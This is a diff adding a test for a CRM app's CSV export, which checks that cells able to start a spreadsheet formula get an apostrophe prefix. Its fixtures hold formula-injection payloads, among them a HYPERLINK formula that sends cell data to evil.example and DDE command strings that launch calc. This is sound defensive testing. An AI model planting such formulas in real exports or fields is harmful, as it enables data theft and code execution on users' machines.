@@ -98,3 +98,31 @@ def test_a_bad_query_is_refused_before_anything_is_written(crm, subtests) -> Non
             response = crm.get(url)
             assert response.status_code in (400, 404)
             assert key in response.json["errors"]
+
+
+def test_csv_cells_never_start_a_formula(crm) -> None:
+    """Text typed in by outsiders cannot become a formula in a spreadsheet: a cell
+    starting with =, @, a tab or a carriage return, or with + or - unless it is a
+    plain number or phone number, is prefixed with ' (and JSON lines stay as they are)."""
+    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    typed = {
+        link: "'" + link,
+        "@SUM(A1:A9)": "'@SUM(A1:A9)",
+        "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+        "\t=1+1": "'\t=1+1",
+        "\r=1+1": "'\r=1+1",
+        "+86 21 5555 0000": "+86 21 5555 0000",
+        "-12.50": "-12.50",
+        "(021) 5555-0000": "(021) 5555-0000",
+        "a = b": "a = b",
+    }
+    ids = {create(crm, "customer", name=f"客户 {n}", description=text): text
+           for n, text in enumerate(typed)}
+    phone = create(crm, "customer", name="电话", phone="+86 21 5555 0000")
+    found = {int(r["id"]): r for r in rows(crm.get("/api/customer/export"))}
+    assert {ids[i]: found[i]["description"] for i in ids} == typed
+    assert found[phone]["phone"] == "+86 21 5555 0000"
+    lines = crm.get("/api/customer/export?format=json&fields=id,description").data
+    exported = {r["id"]: r["description"] for r in map(json.loads, lines.splitlines())}
+    assert {i: exported[i] for i in ids} == ids
